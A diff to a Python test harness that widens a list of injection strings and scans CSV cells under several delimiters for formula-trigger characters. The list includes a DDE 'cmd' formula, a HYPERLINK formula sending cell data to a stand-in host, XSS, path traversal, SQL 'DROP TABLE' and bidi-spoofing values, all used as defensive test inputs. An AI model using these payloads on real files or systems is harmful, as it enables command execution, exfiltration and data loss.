@@ -10,7 +10,7 @@ import csv, sys, unicodedata, urllib.request
 sys.path.insert(0, "tests/harness")
 from hostile_agent import Agent
 
-WORDS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", ";=1+1", ",=1+1", "\uff1d1+1",
+WORDS = ["a;=1+1", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", ";=1+1", ",=1+1", "\uff1d1+1",
          "</script><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "${net0/mac} || shell", "\u202egnp.exe", "\u200b\u2066x\u2069",
          "\u009b2J", "x\u2028DHCPACK", "%0d%0a#!ipxe", "{{7*7}}", "../../etc/passwd", "'; DROP TABLE host; --"]
 
@@ -47,7 +47,9 @@ def cells(*files):
     n = 0
     for name in files:
         with open(name, newline="", encoding="utf-8") as f:
-            for row in csv.reader(f):
+            lines = f.readlines()
+        for separator in ",;\t":  # as spreadsheets of one country or another read it
+            for row in csv.reader(lines, delimiter=separator):
                 for cell in row:
                     n += 1
                     if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
